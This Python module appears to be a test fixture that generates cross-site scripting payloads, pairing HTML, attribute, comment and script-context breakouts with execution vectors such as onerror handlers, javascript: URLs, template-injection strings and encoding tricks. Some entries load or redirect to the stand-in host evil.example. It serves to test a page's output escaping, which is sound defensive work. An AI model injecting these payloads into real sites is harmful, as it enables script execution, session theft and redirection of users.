"""Texts that would run as script where a page took copy for markup: every way in with every way to run."""

from __future__ import annotations

import json
import os
import re
from itertools import product
from pathlib import Path

CALL = "alert(1)"
#: Ways out of where a text may stand: an element, an attribute of either quotes, a comment, a script, a raw element.
BREAKS = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "--!>",
    "</script>",
    "</title>",
    "</style>",
    "</textarea>",
    "]]>",
    "*/",
    "{{",
    "</founder-title>",
)
#: Ways to run once one is out.
RUNS = (
    f"<script>{CALL}</script>", f"<img src=x onerror={CALL}>", f"<svg onload={CALL}>", f"<svg><script>{CALL}</script></svg>",
    f" onfocus={CALL} autofocus tabindex=0 x=", f" onmouseover={CALL} style=position:fixed;inset:0 x=",
    f"<iframe srcdoc='<script>parent.{CALL}</script>'></iframe>", f"<a href=javascript:{CALL}>x</a>",
    f"<math><mtext><img src=x onerror={CALL}></mtext></math>", f"<details open ontoggle={CALL}>", f"<body onload={CALL}>",
    f"<video><source onerror={CALL}></video>", "<base href=//evil.example/><script src=x></script>",
    f";{CALL};//", f"${{{CALL}}}", f"{{{{constructor.constructor('{CALL}')()}}}}",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example/><button autofocus>x", f"<object data=javascript:{CALL}></object>",
    f"<template shadowrootmode=open><img src=x onerror={CALL}></template>", "<style>@import '//evil.example/x.css'</style>",
)  # fmt: skip
#: What a grammar of its own makes of them: line separators in scripts, replacement patterns, signs that are not what they look like.
ODD = (
    f"\u2028{CALL}//", f"\u2029{CALL}//", f"\\u003cscript\\u003e{CALL}", f"&lt;script&gt;{CALL}&lt;/script&gt;", f"&#60;img src=x onerror={CALL}&#62;",
    "$& $1 $` $'", "%3Cscript%3E", f"\uff1cscript\uff1e{CALL}\uff1c/script\uff1e", "__proto__", "constructor", "{count}", "{phrase}", "{0}",
    "<!--", "<!--<script>", "<![CDATA[", "&", "&amp;amp;", "\\", '\\"', "</", "--", "<%= 7*7 %>", "{% raw %}", "#{7*7}", "[[x]]",
    f"javascript:{CALL}", f"data:text/html,<script>{CALL}</script>",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them; $BANXIN_PAYLOADS names a JSON list of more."""
    found = [way + run for way, run in product(BREAKS, RUNS)] + list(ODD)
    more = os.environ.get("BANXIN_PAYLOADS")
    others = json.loads(Path(more).read_text("utf-8")) if more else []
    # A field of a story is one line, and reading it refuses controls.
    return found + [re.sub(r"[\x00-\x1f\x7f-\x9f]+", " ", one) for one in others]
